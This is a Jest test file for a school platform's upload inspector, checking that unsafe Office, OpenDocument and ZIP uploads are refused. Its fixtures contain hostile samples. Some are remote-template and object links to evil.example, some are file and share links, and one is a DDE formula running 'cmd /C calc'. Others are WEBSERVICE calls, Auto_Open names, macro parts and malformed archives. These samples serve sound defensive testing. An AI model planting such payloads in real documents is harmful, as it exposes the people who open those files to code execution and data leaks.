import { describe, expect, it } from '@jest/globals';
import { utils, write } from '@e965/xlsx';
import { type UploadType, uploadsErrors } from '@lyceum/contracts/uploads';
import { strToU8, zipSync } from 'fflate';
import {
  archive,
  office,
  openDocument,
  relationsOf,
  relationTypes,
  typesOf,
  usualTypes,
} from '../testing/office-samples';
import { inspectArchive, inspectOffice } from './archives';

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const slides = 'application/vnd.openxmlformats-officedocument.presentationml.presentation';
const open = 'application/vnd.oasis.opendocument.text';
const never = new AbortController().signal;

const codeOf = (work: Promise<unknown>): Promise<string> =>
  work.then(
    () => 'kept',
    (error: unknown) => (error as { code?: string }).code ?? String(error),
  );
const outcomeOf = (bytes: Buffer, type: UploadType = word): Promise<string> =>
  codeOf(inspectOffice(bytes, type, never));
const refusals = [
  uploadsErrors.NOT_SAFE.code,
  uploadsErrors.DAMAGED.code,
  uploadsErrors.CONTENT_MISMATCH.code,
];

type Relation = readonly [type: string, target: string, mode: string];

const harmful: Readonly<Record<string, Relation>> = {
  'a template from elsewhere': ['attachedTemplate', 'https://evil.example/a.dotm', 'External'],
  'a template called a picture': ['attachedTemplate', 'https://evil.example/image', 'External'],
  'a template called a link': ['attachedTemplate', 'https://evil.example/hyperlink', 'External'],
  'a template of the file': ['attachedTemplate', 'main.xml', 'Internal'],
  'a picture from elsewhere': ['image', 'https://evil.example/a.png', 'External'],
  'a film from elsewhere': ['video', 'https://evil.example/a.mp4', 'External'],
  'an object from elsewhere': ['oleObject', 'https://evil.example/a', 'External'],
  'a text from elsewhere': ['subDocument', 'https://evil.example/a', 'External'],
  'a text of another kind': ['aFChunk', 'main.xml', 'Internal'],
  'a frame': ['frame', 'https://evil.example/a', 'External'],
  'a sheet from elsewhere': ['externalLinkPath', 'https://evil.example/a', 'External'],
  macros: ['vbaProject', 'main.xml', 'Internal'],
  'a control': ['control', 'main.xml', 'Internal'],
  'a link to a local file': ['hyperlink', 'file:///C:/a.exe', 'External'],
  'a link to a share': ['hyperlink', '\\\\evil\\share', 'External'],
  'a link that runs': ['hyperlink', 'java\tscript:x', 'External'],
  'a picture that is not there': ['image', 'media/none.png', 'Internal'],
  'a kind nobody knows': ['unheard', 'main.xml', 'Internal'],
};

const attributes = ([type, target, mode]: Relation): string =>
  `Id="x" Type="${relationTypes}${type}" Target="${target}" TargetMode="${mode}"`;
const asNumbers = (text: string, hex: boolean): string =>
  [...text].map((letter) => `&#${hex ? 'x' : ''}${letter.charCodeAt(0).toString(hex ? 16 : 10)};`).join('');
const withRelations = (text: string | Uint8Array, path = '_rels/main.xml.rels'): Buffer =>
  office('wordprocessingml.document', { [path]: text });

/** How it may be written, and where. */
const writings: Readonly<Record<string, (relation: Relation) => Buffer>> = {
  'as it is': (relation) => withRelations(relationsOf(`<Relationship ${attributes(relation)}/>`)),
  'with a name in front': (relation) =>
    withRelations(
      relationsOf(
        `<r:Relationship xmlns:r="http://schemas.openxmlformats.org/package/2006/relationships" ${attributes(relation)}/>`,
      ),
    ),
  'with a name in front of all': (relation) =>
    withRelations(
      relationsOf(`<Relationship ${attributes(relation)}/>`)
        .replaceAll('Relationship', 'r:Relationship')
        .replace('xmlns=', 'xmlns:r='),
    ),
  'with letters as numbers': ([type, target, mode]) =>
    withRelations(
      relationsOf(
        `<Relationship Id="x" Type="${asNumbers(relationTypes + type, false)}" Target="${asNumbers(target, false)}" TargetMode="${asNumbers(mode, false)}"/>`,
      ),
    ),
  'with letters as numbers in hexadecimal': ([type, target, mode]) =>
    withRelations(
      relationsOf(
        `<Relationship Id="x" Type="${asNumbers(relationTypes + type, true)}" Target="${asNumbers(target, true)}" TargetMode="${asNumbers(mode, true)}"/>`,
      ),
    ),
  'with an entity of its own': ([type, target]) =>
    withRelations(
      `<!DOCTYPE a [<!ENTITY e "External">]>${relationsOf(`<Relationship ${attributes([type, target, '&e;'])}/>`)}`,
    ),
  'in single quotes': (relation) =>
    withRelations(relationsOf(`<Relationship ${attributes(relation).replaceAll('"', "'")}/>`)),
  'with the end of a tag in a value': (relation) =>
    withRelations(relationsOf(`<Relationship Note=">" ${attributes(relation)}/>`)),
  'over several lines': (relation) =>
    withRelations(
      relationsOf(`<Relationship\n\t${attributes(relation).replaceAll('" ', '"\r\n ')}\n></Relationship\n>`),
    ),
  'behind a comment': (relation) =>
    withRelations(relationsOf(`<!-- <a> -->`, `<Relationship ${attributes(relation)}/>`)),
  'in other words': (relation) =>
    withRelations(relationsOf(`<![CDATA[<]]><Relationship ${attributes(relation)}/>`)),
  'in letters of two bytes': (relation) =>
    withRelations(Buffer.from(`\ufeff${relationsOf(`<Relationship ${attributes(relation)}/>`)}`, 'utf16le')),
  'in capitals': (relation) =>
    withRelations(relationsOf(`<Relationship ${attributes(relation)}/>`), '_rels/main.xml.RELS'),
  'in a folder in capitals': (relation) =>
    withRelations(relationsOf(`<Relationship ${attributes(relation)}/>`), '_RELS/main.xml.rels'),
  'of the whole file': (relation) =>
    withRelations(
      relationsOf(
        `<Relationship Id="a" Type="${relationTypes}officeDocument" Target="main.xml"/>`,
        `<Relationship ${attributes(relation)}/>`,
      ),
      '_rels/.rels',
    ),
  'of a part in a folder': (relation) =>
    office('wordprocessingml.document', {
      'word/parts/one.xml': '<one/>',
      'word/parts/_rels/one.xml.rels': relationsOf(`<Relationship ${attributes(relation)}/>`),
    }),
  'of a part that is not there': (relation) =>
    withRelations(relationsOf(`<Relationship ${attributes(relation)}/>`), 'word/_rels/none.xml.rels'),
};

describe('[117] an office file with', () => {
  const all = Object.entries(harmful).flatMap(([harm, relation]) =>
    Object.entries(writings).map(([writing, make]) => [harm, writing, make(relation)] as const),
  );

  it.each(all)('%s is refused, written %s', async (_, __, bytes) => {
    expect(refusals).toContain(await outcomeOf(bytes));
  });

  it.each(Object.entries(writings).slice(0, 5))('a link is kept, written %s', async (_, make) => {
    expect(await outcomeOf(make(['hyperlink', 'https://school.example/image', 'External']))).toBe('kept');
  });

  const typed = (types: string, more: Readonly<Record<string, string>> = {}): Buffer =>
    office('wordprocessingml.document', {
      '[Content_Types].xml': typesOf(usualTypes('wordprocessingml.document'), types),
      ...more,
    });
  const binary = (path: string, type: string): Buffer =>
    typed(`<Override PartName="/${path}" ContentType="${type}"/>`, { [path]: 'x' });
  const ms = 'application/vnd.ms-';
  const parts: Readonly<Record<string, Buffer>> = {
    macros: binary('word/vbaProject.bin', `${ms}office.vbaProject`),
    'macros by another name': binary('word/picture.png', `${ms}office.vbaProject`),
    'macros in capitals': binary('WORD/VBAPROJECT.BIN', `${ms}office.vbaProject`),
    'macros whose type is in capitals': binary('word/a.xml', `${ms}word.VBADATA+xml`),
    'macros called a picture': office('wordprocessingml.document', { 'word/vbaProject.bin': 'x' }),
    'a sheet of macros': binary('xl/macrosheets/a.xml', `${ms}excel.macrosheet+xml`),
    'an object': binary('word/embeddings/a.bin', 'application/vnd.openxmlformats-officedocument.oleObject'),
    'a file within': binary('word/embeddings/a.docx', word),
    'a control': binary('word/activeX/a.xml', `${ms}office.activeX+xml`),
    'menus of its own': binary('customUI/a.xml', `${ms}office.customUI+xml`),
    'data from elsewhere': binary(
      'xl/connections.xml',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml',
    ),
    'a link to other sheets': binary(
      'xl/a.xml',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
    ),
    'a type nobody knows': binary('word/a.xml', 'application/x-unheard'),
    'a part without a type': office('wordprocessingml.document', { 'word/a.unheard': 'x' }),
    'a page of the web': binary('word/a.html', 'text/html'),
    'the type of one with macros': archive({
      '[Content_Types].xml': typesOf(
        `<Override PartName="/main.xml" ContentType="${ms}word.document.macroEnabled.main+xml"/>`,
      ),
      'main.xml': '<main/>',
    }),
    'two main parts': typed(`<Override PartName="/b.xml" ContentType="${word}.main+xml"/>`, {
      'b.xml': '<b/>',
    }),
    'a type said twice': typed(`<Override PartName="/MAIN.xml" ContentType="image/png"/>`),
    'types in another namespace': office('wordprocessingml.document', {
      '[Content_Types].xml': typesOf(usualTypes('wordprocessingml.document')).replace('package', 'packages'),
    }),
    'another main part than it says': office('wordprocessingml.document', {
      'other.xml': '<a/>',
      '_rels/.rels': relationsOf(
        `<Relationship Id="a" Type="${relationTypes}officeDocument" Target="other.xml"/>`,
      ),
    }),
  };

  it.each(Object.entries(parts))('%s among its parts is refused', async (_, bytes) => {
    expect(refusals).toContain(await outcomeOf(bytes));
  });

  const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const mark = (type: string): string => `<w:fldChar w:fldCharType="${type}"/>`;
  const code = (text: string): string => `<w:instrText>${text}</w:instrText>`;
  const text = (inner: string): Buffer =>
    office('wordprocessingml.document', { 'main.xml': `<w:document ${w}>${inner}</w:document>` });
  const fetching = [
    'DDEAUTO',
    'DDE',
    'INCLUDETEXT',
    'INCLUDEPICTURE',
    'LINK',
    'IMPORT',
    'MACROBUTTON',
    'DATABASE',
    'QUOTE',
    'SET',
  ];
  const fieldsOf = (name: string): Readonly<Record<string, string>> => ({
    'as it is': mark('begin') + code(` ${name} c:\\\\a "x"`) + mark('end'),
    'in small letters': mark('begin') + code(` ${name.toLowerCase()} c:\\\\a`) + mark('end'),
    'in pieces': mark('begin') + [...name].map(code).join('<w:r/>') + mark('separate') + mark('end'),
    'as numbers': mark('begin') + code(asNumbers(name, false)) + mark('end'),
    'in a field': mark('begin') + code('IF ') + mark('begin') + code(name) + mark('end') + mark('end'),
    'behind a field': mark('begin') + mark('begin') + code('PAGE') + mark('end') + code(name) + mark('end'),
    'in short': `<w:fldSimple w:instr=" ${name} a"/>`,
    alone: code(name),
    deleted: mark('begin') + `<w:delInstrText>${name}</w:delInstrText>` + mark('end'),
  });
  const allFields = fetching.flatMap((name) =>
    Object.entries(fieldsOf(name)).map(([writing, inner]) => [name, writing, text(inner)] as const),
  );

  it.each(allFields)('a field %s is refused, written %s', async (_, __, bytes) => {
    expect(await outcomeOf(bytes)).toBe(uploadsErrors.NOT_SAFE.code);
  });

  it.each(['PAGE', 'TOC', 'HYPERLINK', 'REF', 'DATE'])('a field %s is kept', async (name) => {
    const { 'behind a field': _, ...kept } = fieldsOf(name);
    for (const inner of Object.values(kept)) expect(await outcomeOf(text(inner))).toBe('kept');
  });

  const long = 'x'.repeat(2_000_000);
  it.each([
    ['a comment', `<a><!--${long}-->`],
    ['a name', `<${long}`],
    ['a value', `<a b="${long}`],
    ['numbers', `<a>${'&#38;'.repeat(500_000)}&`],
    [
      'pieces of a field',
      `<w:document ${w}>${mark('begin')}${(code('x') + mark('begin') + mark('end')).repeat(20_000)}`,
    ],
  ])('%s of millions of letters and no end is refused', async (_, main) => {
    expect(refusals).toContain(await outcomeOf(office('wordprocessingml.document', { 'main.xml': main })));
  });

  const formula = (inner: string): Buffer => office('spreadsheetml.sheet', { 'main.xml': `<c>${inner}</c>` });
  const texts: readonly (readonly [string, UploadType, Buffer])[] = [
    ['a text of another kind', word, text('<w:altChunk/>')],
    ['an object', word, text('<w:object/>')],
    [
      'an object in a drawing',
      word,
      text('<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/>'),
    ],
    ['a control', word, text('<w:control/>')],
    ['an exchange of data', sheet, formula("<f>cmd|' /C calc'!A0</f>")],
    ['an exchange of data as numbers', sheet, formula('<f>cmd&#124;A!B</f>')],
    ['a call', sheet, formula('<f>CALL("a","b")</f>')],
    ['a page to fetch', sheet, formula('<f>1+webservice ("https://evil.example")</f>')],
    ['a name that runs on opening', sheet, formula('<definedName name="_xlnm.Auto_Open">A1</definedName>')],
    ['a name of macros', sheet, formula('<definedName name="a" xlm="1">A1</definedName>')],
    ['a link of exchange', sheet, formula('<ddeLink/>')],
    [
      'a macro behind a picture',
      slides,
      office('presentationml.presentation', {
        'main.xml': '<p><hlinkClick action="ppaction://macro?name=a"/></p>',
      }),
    ],
    [
      'a program behind a picture',
      slides,
      office('presentationml.presentation', {
        'main.xml': '<p><hlinkClick action="ppaction://program"/></p>',
      }),
    ],
  ];

  it.each(texts)('%s in its text is refused', async (_, type, bytes) => {
    expect(await outcomeOf(bytes, type)).toBe(uploadsErrors.NOT_SAFE.code);
  });

  const a = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
  const documents: Readonly<Record<string, Record<string, string>>> = {
    'a picture from elsewhere': { 'content.xml': `<image ${a} xlink:href="https://evil.example/a.png"/>` },
    'a picture from above': { 'content.xml': `<image ${a} xlink:href="../a.png"/>` },
    'a link to a local file': { 'content.xml': `<a ${a} xlink:href="file:///a.exe"/>` },
    'a script': { 'content.xml': '<o><script/></o>' },
    'something that listens': { 'styles.xml': '<o><event-listener/></o>' },
    'an exchange of data': { 'content.xml': '<o><dde-connection-decl/></o>' },
    'a section from elsewhere': { 'content.xml': '<o><section-source/></o>' },
    'an object': { 'content.xml': '<o><object/></o>' },
    macros: { 'Basic/Standard/Module1.xml': '<a/>' },
    scripts: { 'Scripts/python/a.py': 'x' },
    'an object among its parts': { 'Object 1/content.xml': '<a/>' },
    'a lock': { 'META-INF/manifest.xml': '<m><encryption-data/></m>' },
    'keys of its own': { 'Configurations2/accelerator/current.xml': '<a/>' },
    'an entity': { 'content.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' },
  };

  it.each(Object.entries(documents))('%s is refused as OpenDocument', async (_, more) => {
    expect(refusals).toContain(await outcomeOf(openDocument(more), open));
  });

  it('what honest programs write is kept', async () => {
    const book = utils.book_new();
    utils.book_append_sheet(
      book,
      utils.aoa_to_sheet([
        ['Ada', 3],
        ['a|b', { t: 'n', f: 'SUM(B1:B1)' }],
      ]),
      'Points',
    );
    const written = write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
    expect(await outcomeOf(Buffer.from(written), sheet)).toBe('kept');
    for (const [part, type] of [
      ['wordprocessingml.document', word],
      ['spreadsheetml.sheet', sheet],
      ['presentationml.presentation', slides],
    ] as const)
      expect(await outcomeOf(office(part, { 'media/a.png': 'x' }), type)).toBe('kept');
    const link = {
      'content.xml': `<o><a ${a} xlink:href="https://school.example"/><image ${a} xlink:href="Pictures/a.png"/></o>`,
    };
    expect(await outcomeOf(openDocument({ ...link, 'Pictures/a.png': 'x' }), open)).toBe('kept');
  });
});

describe('[117] an archive with', () => {
  const outcome = (bytes: Buffer): Promise<string> => codeOf(inspectArchive(bytes, never));
  const plain = archive({ 'one.txt': 'one and one and one', 'two.txt': 'two' });
  const changed = (change: (bytes: Buffer, list: number) => void): Buffer => {
    const bytes = Buffer.from(plain);
    change(bytes, bytes.indexOf('PK\x01\x02', 0, 'latin1'));
    return bytes;
  };
  const extra = (id: number): Buffer =>
    Buffer.from(zipSync({ 'one.txt': [strToU8('one'), { extra: { [id]: new Uint8Array(8) } }] }));
  const crooked: Readonly<Record<string, Buffer>> = {
    'two of one name': changed((bytes, list) => {
      for (const at of [bytes.indexOf('two.txt'), bytes.indexOf('two.txt', list)]) bytes.write('one.txt', at);
    }),
    'two of one name but for capitals': archive({ 'One.txt': 'x', 'one.TXT': 'y' }),
    'another name in front of its bytes': changed((bytes) =>
      bytes.write('two.exe', bytes.indexOf('one.txt')),
    ),
    'another size in front of its bytes': changed((bytes) => bytes.writeUInt32LE(3, 22)),
    'another packed size in front of its bytes': changed((bytes) => bytes.writeUInt32LE(3, 18)),
    'another sum in front of its bytes': changed((bytes) => bytes.writeUInt32LE(3, 14)),
    'another method in front of its bytes': changed((bytes) => bytes.writeUInt16LE(0, 8)),
    'a lock in front of its bytes': changed((bytes) => bytes.writeUInt16LE(1, 6)),
    'a lock': changed((bytes, list) => bytes.writeUInt16LE(1, list + 8)),
    'a wrong sum': changed((bytes, list) => {
      bytes.writeUInt32LE(3, 14);
      bytes.writeUInt32LE(3, list + 16);
    }),
    'a second name': extra(0x7075),
    'a second size': extra(0x0001),
    'another lock': extra(0x9901),
    'an archive within': archive({ 'a.ZIP': 'x' }),
    'an image of a disk': archive({ 'a/b.iso': 'x' }),
    'a text with macros': archive({ 'a.docm': 'x' }),
    'a program behind a dot': archive({ 'a.exe.': 'x' }),
    'a program': archive({ 'a/b/c.Scr': 'x' }),
    'something behind it': Buffer.concat([plain, Buffer.from('x')]),
    'something in front of it': Buffer.concat([Buffer.from('x'), plain]),
    'something between': Buffer.concat([
      plain.subarray(0, plain.indexOf('PK\x03\x04', 9)),
      Buffer.from('x'),
      plain.subarray(9),
    ]),
  };

  it.each(Object.entries(crooked))('%s is refused', async (_, bytes) => {
    expect(refusals).toContain(await outcome(bytes));
  });

  it('texts and pictures is kept', async () => {
    expect(await outcome(plain)).toBe('kept');
    expect(await outcome(extra(0x5455))).toBe('kept');
  });
});
